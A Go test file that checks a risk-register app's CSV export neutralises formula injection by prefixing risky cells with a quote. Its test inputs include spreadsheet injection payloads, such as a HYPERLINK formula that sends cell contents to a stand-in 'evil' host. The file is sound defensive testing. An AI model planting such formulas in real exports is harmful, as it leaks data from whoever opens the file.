package csvio

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/riskreg/riskreg/app/risk"
)

func TestSafeCell(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://x/?"&A1,"click")`: `'=HYPERLINK("http://x/?"&A1,"click")`,
		"+1":                                  "'+1",
		"-2+3":                                "'-2+3",
		"@SUM(A1)":                            "'@SUM(A1)",
		"\tcmd":                               "'\tcmd",
		"\rcmd":                               "'\rcmd",
		"   =1+1":                             "'   =1+1",
		"  @x":                                "'  @x",
		"\x00x":                               "'\x00x",
		"Plain title":                         "Plain title",
		"a=b":                                 "a=b",
		"":                                    "",
		"   ":                                 "   ",
	} {
		if got := SafeCell(in); got != want {
			t.Errorf("SafeCell(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestWriterNeutralisesAndParses writes formula-like text in every user
// text column and reads the file back with encoding/csv.
func TestWriterNeutralisesAndParses(t *testing.T) {
	evil := []string{`=HYPERLINK("http://evil/?"&A1,"click")`, "+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR", "  =1+2", "say \"hi\", ok\nnext line"}
	var buf bytes.Buffer
	w, err := NewWriter(&buf, true)
	if err != nil {
		t.Fatal(err)
	}
	lvl := 1
	m := risk.DefaultMatrix()
	due := time.Date(2026, 12, 31, 0, 0, 0, 0, time.UTC)
	for i, s := range evil {
		r := &risk.Risk{Number: int64(i + 1), ID: "id", Title: s, Description: s, Category: "technology", Status: "open",
			Probability: 3, Impact: 4, ResidualProbability: 1, ResidualImpact: 2, InherentLevel: &lvl, DueDate: &due,
			Tags: []string{s, "b"}, Assignee: &risk.Person{Name: s, Email: "a@example.com"}}
		if err := w.Write(&Record{Risk: r, Matrix: &m, TreatmentType: "mitigate", TreatmentDescription: s, OpenTasks: 2}); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	body, ok := strings.CutPrefix(buf.String(), BOM)
	if !ok {
		t.Fatal("no BOM")
	}
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("the export does not parse: %v", err)
	}
	if len(recs) != len(evil)+1 || strings.Join(recs[0], ",") != strings.Join(Columns, ",") {
		t.Fatalf("got %d records, header %v", len(recs), recs[0])
	}
	col := map[string]int{}
	for i, c := range Columns {
		col[c] = i
	}
	for i, rec := range recs[1:] {
		for _, c := range []string{"title", "description", "assignee_name", "treatment_description"} {
			v := rec[col[c]]
			if strings.ContainsAny(strings.TrimLeft(v, " ")[:1], "=+-@\t\r") {
				t.Errorf("row %d %s = %q is not neutralised", i+1, c, v)
			}
			// encoding/csv's reader drops a CR inside a quoted field.
			if want := strings.ReplaceAll(SafeCell(evil[i]), "\r", ""); v != want {
				t.Errorf("row %d %s = %q, want %q", i+1, c, v, want)
			}
		}
		if rec[col["tags"]] != strings.ReplaceAll(SafeCell(evil[i]+";b"), "\r", "") {
			t.Errorf("tags = %q", rec[col["tags"]])
		}
		if rec[col["inherent_score"]] != "12" || rec[col["residual_score"]] != "2" || rec[col["inherent_level"]] != m.LevelAt(1).Name ||
			rec[col["due_date"]] != "2026-12-31" || rec[col["open_tasks"]] != "2" || rec[col["identifier"]] != risk.FormatIdentifier(int64(i+1)) {
			t.Errorf("row %d = %q", i+1, rec)
		}
	}
}
